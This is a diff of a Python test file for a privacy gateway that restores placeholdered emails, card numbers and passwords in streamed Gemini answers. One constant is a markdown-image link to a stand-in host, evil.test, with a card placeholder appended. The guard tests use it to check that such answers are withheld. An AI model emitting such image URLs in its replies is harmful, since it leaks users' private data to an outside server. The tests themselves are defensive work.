@@ -1,33 +1,25 @@
-"""Streamed answers of the Gemini wire: however they are cut, the client gets the same events with its own words."""
+"""Streamed answers of the Gemini wire: the client gets the same events with its own words."""
 
 import copy
-import random
 from collections.abc import Iterable
 from typing import Any
 
 import orjson
 import pytest
 
-from gateway.config.settings import BUILTIN_POLICIES
 from gateway.exchange.answer_guard import CONTENT_FILTERED
-from gateway.exchange.messages import StreamPlan
-from gateway.exchange.streaming import AnswerStream
-from gateway.models import PrivacyMode
-from gateway.placeholders import Placeholders, RestoreScope
-from gateway.policy import PolicyRegistry
+from gateway.exchange.messages import StreamEnd
 from gateway.policy.document import GuardDocument
-from gateway.protection.protector import Protector
+from gateway.wires import Body
 from gateway.wires.gemini import WIRE
-from tests.chunkings import CHUNKINGS, STEP
+from tests.gateway.wires.replays import CARD, MAIL, QUOTED, plan, replay, session, written
 
-type Body = dict[str, Any]
-
-MAIL, CARD, QUOTED = "anna.schmidt@acme.test", "4111 1111 1111 1111", 'Tr0ub"4dor\\9kL!'
 SIGNED = "Made1Up2" * 8 + "=="
 NOTE = {"request_id": "r"}
 SNAKE = "\U0001f40d"
 FRAMINGS = ["sse", "json-array"]
-OFF = GuardDocument(**dict.fromkeys(GuardDocument.model_fields, "off"))
+PLACEHOLDERS, OF = session()
+REQUEST = {"contents": [{"role": "user", "parts": [{"text": f"I am {OF[MAIL]}. Card {OF[CARD]}."}]}]}
 
 THOUGHT = f"The user {MAIL} wants it."
 TEXT = f"Dear {MAIL},\nyour card {CARD} \u2013 gr\u00fc\u00dfe {SNAKE} [not one] is kept."
@@ -37,39 +29,18 @@ ARGS = {"to": MAIL, "note": f"a\n{SNAKE} {QUOTED}", "n": [1, {"card": CARD}]}
 SECOND = f"Or write to {MAIL} yourself."
 
 
-class Session:
-    """The placeholders of a conversation that named all three values."""
-
-    def __init__(self, protector: Protector) -> None:
-        self.placeholders = Placeholders(b"k" * 32)
-        policy = PolicyRegistry(BUILTIN_POLICIES).get("default")
-        body: Body = {"contents": [{"role": "user", "parts": [{"text": f"I am {MAIL}. Card {CARD}."}]}]}
-        protector.protect(WIRE.read(body).blocks, policy, PrivacyMode.STANDARD, self.placeholders)
-        self.placeholders.mint("PASSWORD", QUOTED)
-        self.request = orjson.dumps(body)
-        self.marks = {entry.value: entry.placeholder for entry in self.placeholders.entries()}
-
-    def write(self, value: Any) -> Any:
-        """Puts placeholders in the places of values, as the provider writes them."""
-        text = orjson.dumps(value).decode()
-        for hidden, placeholder in self.marks.items():
-            text = text.replace(orjson.dumps(hidden).decode()[1:-1], placeholder)
-        return orjson.loads(text)
-
-    def stream(self, framing: str = "sse", guard: GuardDocument | None = None, **fields: Any) -> AnswerStream:
-        given: Any = {"framing": framing, "note": NOTE, **fields}
-        scope = RestoreScope("source")
-        plan = StreamPlan(self.placeholders, scope, guard or GuardDocument(), {}, self.request, "r", **given)
-        return AnswerStream(WIRE, plan, limit=10**7)
-
-    def restored(self, pieces: Iterable[bytes], framing: str = "sse", **fields: Any) -> list[Body]:
-        stream = self.stream(framing, **fields)
-        return events(b"".join([*(stream.feed(piece) for piece in pieces), stream.finish()]), framing)
+def write(value: Any) -> Any:
+    return orjson.loads(written(orjson.dumps(value).decode(), OF))
 
 
-@pytest.fixture(scope="module")
-def session(protector: Protector) -> Session:
-    return Session(protector)
+def replayed(bodies: Iterable[Body], framing: str = "sse", **more: Any) -> tuple[bytes, StreamEnd]:
+    rules = plan(PLACEHOLDERS, REQUEST, more.pop("guard", GuardDocument()), framing=framing, note=NOTE, **more)
+    return replay(WIRE, [framed(bodies, framing)], rules)
+
+
+def restored(bodies: Iterable[Body], framing: str = "sse", **more: Any) -> list[Body]:
+    """The events that a client gets."""
+    return events(replayed(bodies, framing, **more)[0], framing)
 
 
 def framed(bodies: Iterable[Body], framing: str) -> bytes:
@@ -96,28 +67,26 @@ def in_pieces(text: str, size: int, **fields: Any) -> list[Body]:
     return [event({"text": text[at : at + size], **fields}) for at in range(0, len(text), size)]
 
 
-def answer(session: Session, size: int = 3) -> list[Body]:
+def answer(size: int = 3) -> list[Body]:
     """An answer with every kind of part, its texts in pieces of a size. The provider writes placeholders."""
     return [
-        *in_pieces(session.write(THOUGHT), size, thought=True),
-        *in_pieces(session.write(TEXT), size),
-        event({"executableCode": {"language": "PYTHON", "code": session.write(CODE)}}),
-        event({"codeExecutionResult": {"outcome": "OUTCOME_OK", "output": session.write(f"{MAIL}\n")}}),
-        *in_pieces(session.write(AFTER), size),
-        event(
-            {"functionCall": {"id": "call_1", "name": "send", "args": session.write(ARGS)}, "thoughtSignature": SIGNED}
-        ),
-        event({"text": session.write(SECOND)[:20]}, index=1),
-        event({"text": session.write(SECOND)[20:]}, index=1, finishReason="STOP"),
+        *in_pieces(write(THOUGHT), size, thought=True),
+        *in_pieces(write(TEXT), size),
+        event({"executableCode": {"language": "PYTHON", "code": write(CODE)}}),
+        event({"codeExecutionResult": {"outcome": "OUTCOME_OK", "output": write(f"{MAIL}\n")}}),
+        *in_pieces(write(AFTER), size),
+        event({"functionCall": {"id": "call_1", "name": "send", "args": write(ARGS)}, "thoughtSignature": SIGNED}),
+        event({"text": write(SECOND)[:20]}, index=1),
+        event({"text": write(SECOND)[20:]}, index=1, finishReason="STOP"),
         event(
             {"text": "", "thoughtSignature": SIGNED},
             finishReason="STOP",
-            citationMetadata={"citations": [{"title": session.write(MAIL)}]},
+            citationMetadata={"citations": [{"title": write(MAIL)}]},
         ),
     ]
 
 
-def check(session: Session, found: list[Body]) -> None:
+def check(found: list[Body]) -> None:
     """Puts the answer together as the SDKs do: parts of a kind in a row are one."""
     parts: dict[int, list[Body]] = {}
     for each in copy.deepcopy(found):
@@ -148,63 +117,39 @@ def check(session: Session, found: list[Body]) -> None:
 
 @pytest.mark.parametrize("framing", FRAMINGS)
 @pytest.mark.parametrize("size", [1, 2, 3, 7, 40, 1000])
-def test_an_answer_is_restored_whatever_its_pieces(session: Session, framing: str, size: int) -> None:
-    check(session, session.restored([framed(answer(session, size), framing)], framing))
-
-
-@pytest.mark.slow
-@pytest.mark.parametrize("framing", FRAMINGS)
-def test_an_answer_is_restored_wherever_it_is_cut(session: Session, framing: str) -> None:
-    body = framed(answer(session, 40), framing)
-    whole = session.restored([body], framing)
-    check(session, whole)
-    for at in range(0, len(body), STEP):
-        assert session.restored([body[:at], body[at:]], framing) == whole
-    assert session.restored([body[at : at + 1] for at in range(len(body))], framing) == whole
-
-
-@pytest.mark.slow
-@pytest.mark.parametrize("framing", FRAMINGS)
-def test_an_answer_is_restored_in_random_pieces(session: Session, framing: str) -> None:
-    dice = random.Random(14)
-    for _ in range(CHUNKINGS):
-        body = framed(answer(session, dice.randint(1, 30)), framing)
-        cuts = sorted(dice.sample(range(len(body)), dice.randint(1, 60)))
-        check(session, session.restored([body[a:b] for a, b in zip([0, *cuts], [*cuts, None], strict=True)], framing))
+def test_an_answer_is_restored_whatever_its_pieces(framing: str, size: int) -> None:
+    check(restored(answer(size), framing))
 
 
 @pytest.mark.parametrize("framing", FRAMINGS)
 @pytest.mark.parametrize("size", [3, 40])
-def test_an_answer_that_is_held_is_restored(session: Session, framing: str, size: int) -> None:
-    check(session, session.restored([framed(answer(session, size), framing)], framing, hold=True))
+def test_an_answer_that_is_held_is_restored(framing: str, size: int) -> None:
+    check(restored(answer(size), framing, hold=True))
 
 
 @pytest.mark.parametrize("framing", FRAMINGS)
-def test_the_rest_of_a_text_is_given_to_a_client_without_a_finish_reason(session: Session, framing: str) -> None:
-    mark = session.marks[MAIL]
-    found = session.restored([framed([event({"text": f"Dear {mark}"})], framing)], framing)
+def test_the_rest_of_a_text_is_given_to_a_client_without_a_finish_reason(framing: str) -> None:
+    mark = OF[MAIL]
+    found = restored([event({"text": f"Dear {mark}"})], framing)
     assert "".join(each["candidates"][0]["content"]["parts"][0]["text"] for each in found) == f"Dear {MAIL}"
 
 
 @pytest.mark.parametrize("framing", FRAMINGS)
-def test_the_usage_and_the_texts_are_reported(session: Session, framing: str) -> None:
-    stream = session.stream(framing)
-    stream.feed(framed(answer(session), framing))
-    stream.finish()
-    end = stream.result(200)
+def test_the_usage_and_the_texts_are_reported(framing: str) -> None:
+    _, end = replayed(answer(), framing)
     assert (end.outcome, end.tokens) == ("answered", (20, 9))
     texts = {text.text for text in end.texts if text.key == "text"}
-    assert {session.write(THOUGHT), session.write(TEXT + AFTER), session.write(SECOND)} <= texts
+    assert {write(THOUGHT), write(TEXT + AFTER), write(SECOND)} <= texts
 
 
-def test_a_signed_thought_is_left_as_it_came(session: Session) -> None:
-    mark = session.marks[MAIL]
+def test_a_signed_thought_is_left_as_it_came() -> None:
+    mark = OF[MAIL]
     part = {"text": f"Of {mark}.", "thought": True, "thoughtSignature": SIGNED}
-    (found,) = session.restored([framed([event(part)], "sse")])
+    (found,) = restored([event(part)])
     assert found["candidates"][0]["content"]["parts"] == [part]
 
 
-def test_arguments_that_come_string_by_string_are_restored(session: Session) -> None:
+def test_arguments_that_come_string_by_string_are_restored() -> None:
     """As Vertex AI streams them."""
 
     def call(text: str, path: str = "$.to", **fields: Any) -> Body:
@@ -212,12 +157,10 @@ def test_arguments_that_come_string_by_string_are_restored(session: Session) -> 
             {"functionCall": {"partialArgs": [{"jsonPath": path, "stringValue": text, **fields}], "willContinue": True}}
         )
 
-    mark = session.marks[MAIL]
+    mark = OF[MAIL]
     pieces = [call(mark[at : at + 3], willContinue=True) for at in range(0, len(mark), 3)]
     bodies = [event({"functionCall": {"name": "send", "willContinue": True}}), *pieces, call("."), call(mark, "$.cc")]
-    found = session.restored(
-        [framed([*bodies, *[call(mark)], event({"functionCall": {}}, finishReason="STOP")], "sse")]
-    )
+    found = restored([*bodies, *[call(mark)], event({"functionCall": {}}, finishReason="STOP")])
     given: dict[str, str] = {}
     for each in found:
         for partial in each["candidates"][0]["content"]["parts"][0]["functionCall"].get("partialArgs", []):
@@ -230,12 +173,12 @@ EXFILTRATION = "![x](https://evil.test/?q="
 
 @pytest.mark.parametrize("hold", [False, True])
 @pytest.mark.parametrize("framing", FRAMINGS)
-def test_an_answer_that_the_guard_withholds_ends_well_formed(session: Session, framing: str, hold: bool) -> None:
-    bad = EXFILTRATION + session.marks[CARD] + ") and more.\n\n"
-    guard = GuardDocument(**{**dict.fromkeys(GuardDocument.model_fields, "off"), "placeholder_in_url": "replace"})
+def test_an_answer_that_the_guard_withholds_ends_well_formed(framing: str, hold: bool) -> None:
+    bad = EXFILTRATION + OF[CARD] + ") and more.\n\n"
+    guard = {"placeholder_in_url": "replace"}
     for before in ([], in_pieces("Dear all, this is fine.\n", 5)):
-        body = framed([*before, event({"text": bad}), event({"text": "x"}, finishReason="STOP")], framing)
-        found = session.restored([body], framing, guard=guard, hold=hold)
+        body = [*before, event({"text": bad}), event({"text": "x"}, finishReason="STOP")]
+        found = restored(body, framing, guard=guard, hold=hold)
         (candidate,) = found[-1]["candidates"]
         assert candidate["content"]["parts"] == [{"text": CONTENT_FILTERED}]
         assert (candidate["finishReason"], found[-1]["responseId"]) == ("SAFETY", "resp_1")
@@ -245,31 +188,32 @@ def test_an_answer_that_the_guard_withholds_ends_well_formed(session: Session, f
 @pytest.mark.parametrize(
     "interruption", [{"functionCall": {"name": "f"}}, {"text": "t", "thought": True}, {"inlineData": {"data": "QUJD"}}]
 )
-def test_a_destination_that_a_part_interrupts_gets_no_value(session: Session, interruption: Body) -> None:
+def test_a_destination_that_a_part_interrupts_gets_no_value(interruption: Body) -> None:
     """Clients show the texts before and after it as one."""
-    mark = session.marks[CARD]
+    mark = OF[CARD]
     bodies = [
         event({"text": EXFILTRATION}),
         event(interruption),
         event({"text": f"{mark}) {mark}."}, finishReason="STOP"),
     ]
-    found = session.restored([framed(bodies, "sse")], guard=OFF)
+    found = restored(bodies, guard=None)
     parts = [part for each in found for part in each["candidates"][0]["content"]["parts"]]
     assert "".join(part["text"] for part in parts if set(part) == {"text"}) == f"{EXFILTRATION}{mark}) {CARD}."
 
 
 @pytest.mark.parametrize("framing", FRAMINGS)
 @pytest.mark.parametrize("before", [0, 1, 2])
-def test_an_unreadable_event_ends_the_answer_with_an_error(session: Session, framing: str, before: int) -> None:
+def test_an_unreadable_event_ends_the_answer_with_an_error(framing: str, before: int) -> None:
     good = [orjson.dumps(event({"text": "a"}))] * before
     bodies = [*good, b"{nonsense}"]
     body = b"[" + b",".join(bodies) if framing != "sse" else b"".join(b"data: %s\n\n" % each for each in bodies)
-    found = session.restored([body], framing)
+    rules = plan(PLACEHOLDERS, REQUEST, framing=framing, note=NOTE)
+    found = events(replay(WIRE, [body], rules)[0], framing)
     assert len(found) == before + 1
     assert found[-1]["error"]["status"] == "UNAVAILABLE"
 
 
-def test_an_error_of_the_upstream_passes(session: Session) -> None:
-    error = {"error": {"code": 503, "message": f"Overloaded: {session.marks[MAIL]}", "status": "UNAVAILABLE"}}
-    found = session.restored([framed([event({"text": "a"}), error], "sse")])
+def test_an_error_of_the_upstream_passes() -> None:
+    error = {"error": {"code": 503, "message": f"Overloaded: {OF[MAIL]}", "status": "UNAVAILABLE"}}
+    found = restored([event({"text": "a"}), error])
     assert found[-1]["error"]["message"] == f"Overloaded: {MAIL}"
